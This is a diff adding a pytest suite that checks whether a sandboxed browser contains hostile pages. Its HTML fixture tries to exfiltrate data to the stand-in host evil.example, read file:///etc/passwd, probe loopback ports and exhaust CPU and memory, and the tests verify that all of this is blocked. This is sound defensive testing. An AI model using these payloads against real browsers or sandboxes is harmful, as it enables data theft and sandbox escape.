@@ -1,0 +1,211 @@
+"""A real browser in the sandbox: what pages show, and what hostile ones do not reach."""
+
+from __future__ import annotations
+
+import asyncio
+import socket
+import threading
+from collections.abc import AsyncIterator, Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import pytest
+
+from alita_tui.config.paths import shipped
+from alita_tui.events import Capabilities, RunReport
+from alita_tui.registry.starters import Starters
+from alita_tui.sandbox.engine import PodmanSandbox
+from alita_tui.sandbox.settings import EngineSettings
+from alita_tui.spine.ports.sandbox import Job, Limits
+from tests.sandbox.loopback import Quiet, Told, broker
+
+pytestmark = [pytest.mark.podman, pytest.mark.walk]
+DRAFT = Starters(shipped("starters")).draft("browse", ("site.example:80",))
+HOSTILE = """<title>hostile</title><script>
+const left = new Set('image script fetch loopback localhost redirect worker socket events file'.split(' '));
+const tried = name => { left.delete(name); if (!left.size) end.textContent = 'all was tried' };
+</script><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=EVIL>
+<link rel=prefetch href=EVIL/prefetch><style>@font-face { font-family: f; src: url(EVIL/font) }
+body { font-family: f; background: url(EVIL/background) }</style><body>here<p id=end></p>
+<img src=EVIL/image onerror="tried('image')"><iframe src=EVIL/frame></iframe>
+<iframe src=file:///etc/passwd></iframe><object data=EVIL/object></object>
+<script src=EVIL/script onerror="tried('script')"></script><script>
+const attempt = (name, work) => { try { work(() => tried(name)) } catch { tried(name) } };
+const ask = url => end => fetch(url, {mode: 'no-cors'}).then(() => console.log('GOT ' + url) || end(), end);
+for (const [name, url] of Object.entries({fetch: 'EVIL/fetch', file: 'file:///etc/passwd', redirect: '/redirect',
+  loopback: 'http://127.0.0.1:DOOR/', localhost: 'http://localhost:DOOR/'})) attempt(name, ask(url));
+attempt('socket', end => { new WebSocket('WSEVIL/socket').onerror = end });
+attempt('events', end => { new EventSource('EVIL/events').onerror = end });
+attempt('worker', end => { const code = new Blob(["importScripts('EVIL/worker')"]);
+  new Worker(URL.createObjectURL(code)).onerror = end });
+attempt('', () => navigator.sendBeacon('EVIL/beacon', 'all of it'));
+attempt('', () => navigator.serviceWorker.register('/service.js').catch(() => 0));
+attempt('', () => { for (let n = 0; n < 5; n++) open('EVIL/popup' + n) });
+attempt('', () => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:DOOR'}, {urls:
+  'turn:127.0.0.1:DOOR?transport=tcp', username: 'u', credential: 'c'}]}); peer.createDataChannel('c');
+  peer.createOffer().then(offer => peer.setLocalDescription(offer)) });
+</script>"""
+PAGES = {
+    "/hostile": HOSTILE,
+    "/late": "<title>Late</title><p id=p></p><script>setTimeout(() => { p.textContent = 'by a script' }, 30)</script>",
+    "/loop": "<title>Loop</title><body>x<script>setTimeout(() => { for (;;); }, 50)</script>",
+    "/hungry": "<title>Hungry</title><body><script>const kept = []; setInterval(() => { for (let n = 0; n < 20; n++)"
+    " kept.push(new Uint8Array(4 << 20).fill(n + 1)) }, 1)</script>",
+    "/huge": "<title>Huge</title><body><script>for (let n = 0; n < 150_000; n++) { const p = document.createElement('p');"
+    " p.textContent = 'row ' + n; document.body.append(p) }</script>",
+}
+
+
+@dataclass
+class Served:
+    port: int = 0
+    paths: list[str] = field(default_factory=list)
+
+
+@pytest.fixture
+def door() -> Iterator[socket.socket]:
+    """A port that no run is granted; who reaches it is counted by the kernel."""
+    with socket.socket() as found:
+        found.bind(("127.0.0.1", 0))
+        found.listen(64)
+        found.setblocking(False)
+        yield found
+
+
+@pytest.fixture
+def site(door: socket.socket) -> Iterator[Served]:
+    served = Served()
+    evil = f"http://evil.example:{door.getsockname()[1]}"
+
+    class Handler(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def do_GET(self) -> None:
+            served.paths.append(self.path)
+            if self.path == "/endless":
+                self.send_response(200)
+                self.send_header("Content-Type", "application/octet-stream")
+                self.send_header("Content-Disposition", "attachment; filename=endless.bin")
+                self.end_headers()
+                while True:
+                    self.wfile.write(bytes(1 << 20))
+            text = PAGES.get(self.path, "<a href=/endless>get</a>")
+            for name, value in (
+                ("WSEVIL", evil.replace("http", "ws")),
+                ("EVIL", evil),
+                ("DOOR", evil[-5:].strip(":")),
+            ):
+                text = text.replace(name, value)
+            self.send_response(302 if self.path == "/redirect" else 200)
+            self.send_header("Location", f"{evil}/redirected")
+            self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/html")
+            self.send_header("Content-Length", str(len(text.encode())))
+            self.end_headers()
+            self.wfile.write(text.encode())
+
+        def log_message(self, *_: object) -> None:
+            return
+
+    server = Quiet(("127.0.0.1", 0), Handler)
+    served.port = server.server_address[1]
+    thread = threading.Thread(target=server.serve_forever, args=(0.02,))
+    thread.start()
+    yield served
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+class Browsing:
+    """Runs the starter on the site."""
+
+    def __init__(self, settings: EngineSettings, site: Served) -> None:
+        self.told = Told()
+        self._site = site
+        names = {"site.example": "127.0.0.1", "evil.example": "127.0.0.1"}
+        made = broker(self.told, names, ("127.0.0.0/8",))
+        self.sandbox = PodmanSandbox(msgspec.structs.replace(settings, browser=True), "browser", broker=made)
+
+    async def __call__(
+        self, path: str, *steps: dict[str, Any], limits: Limits | None = None, out: str = ""
+    ) -> RunReport:
+        lock = await self.sandbox.lock(DRAFT.requirements, lambda *_: None, browser=True)
+        job = Job(
+            run_id="browse", module="browse", code=DRAFT.code, digest=DRAFT.digest, lock=lock, outputs=out,
+            arguments={"url": f"http://site.example:{self._site.port}{path}", "steps": list(steps)},
+            capabilities=Capabilities(network=(f"site.example:{self._site.port}",), browser=True),
+            limits=limits or Limits(),
+        )  # fmt: skip
+        return await self.sandbox.run(job, lambda *_: None, lambda *_: None)
+
+
+@pytest.fixture
+async def browse(settings: EngineSettings, site: Served) -> AsyncIterator[Browsing]:
+    browsing = Browsing(settings, site)
+    yield browsing
+    await browsing.sandbox.close()
+
+
+def nobody_came(door: socket.socket) -> bool:
+    try:
+        door.accept()[0].close()
+    except BlockingIOError:
+        return True
+    return False
+
+
+async def test_a_page_of_scripts_is_read_and_its_files_come_out(browse: Browsing, tmp_path: Path) -> None:
+    done = await browse(
+        "/late", {"do": "wait", "text": "by a script"}, {"do": "extract"}, {"do": "screenshot"}, {"do": "pdf"},
+        out=str(tmp_path),
+    )  # fmt: skip
+    assert done.status == "ok", done.error
+    assert (done.result["title"], done.result["extracted"]) == ("Late", ["by a script"])
+    left = {file.name: (tmp_path / str(number)).read_bytes() for number, file in enumerate(done.files)}
+    assert left["page.png"].startswith(b"\x89PNG") and left["page.pdf"].startswith(b"%PDF-")
+    assert b"/late" in left["requests.jsonl"]
+
+
+async def test_a_hostile_page_reaches_nothing_beyond_the_grants(
+    browse: Browsing, site: Served, door: socket.socket, tmp_path: Path
+) -> None:
+    tried = {"do": "wait", "text": "all was tried"}
+    done = await browse("/hostile", tried, {"do": "wait", "seconds": 1}, {"do": "extract"}, out=str(tmp_path))
+    assert nobody_came(door)
+    assert done.status == "ok", done.error
+    assert "here" in done.result["extracted"][0] and done.result["refused"] > 0
+    refused = [one.request for one in browse.told if one.outcome == "refused"]
+    for path in ("image", "script", "fetch", "redirected", "worker", "events"):
+        assert any(request.endswith(f"/{path}") for request in refused), (path, refused)
+    assert any(request.startswith("CONNECT evil.example") for request in refused), "the socket"
+    assert any("127.0.0.1" in request or "localhost" in request for request in refused), "the loopback"
+    served = {one.request for one in browse.told if one.outcome == "served"}
+    assert all("site.example" in request for request in served)
+    console = [b"", *(file.read_bytes() for file in tmp_path.iterdir())]
+    assert not any(b"GOT file:" in text for text in console), "a page read a file"
+    assert "/service.js" not in site.paths, "no service worker outlives its page"
+
+
+async def test_what_goes_on_for_ever_ends_with_a_reason(browse: Browsing, tmp_path: Path) -> None:
+    endless = await browse("/", {"do": "download", "on": "a"}, out=str(tmp_path))
+    assert endless.status in ("error", "limit") and not list(tmp_path.iterdir()), endless
+    loop = await browse(
+        "/loop", {"do": "wait", "seconds": 1}, {"do": "extract"}, limits=Limits(wall_seconds=120)
+    )
+    assert loop.status in ("error", "timeout"), loop
+    hungry = await browse("/hungry", {"do": "wait", "seconds": 30}, {"do": "extract"})
+    assert hungry.status in ("limit", "error"), hungry
+    assert hungry.peak_memory_bytes < 1.3 * (1 << 30)
+    huge = await browse("/huge")
+    assert huge.status in ("ok", "limit", "error"), huge
+    assert huge.status != "ok" or len(huge.result["extracted"][0]) <= 200_000
+    after = await browse("/late")
+    assert after.status == "ok", "what one run did is gone with it"
+
+
+async def test_two_runs_share_no_profile(browse: Browsing) -> None:
+    first, second = await asyncio.gather(browse("/late"), browse("/late"))
+    assert first.status == second.status == "ok", (first.error, second.error)
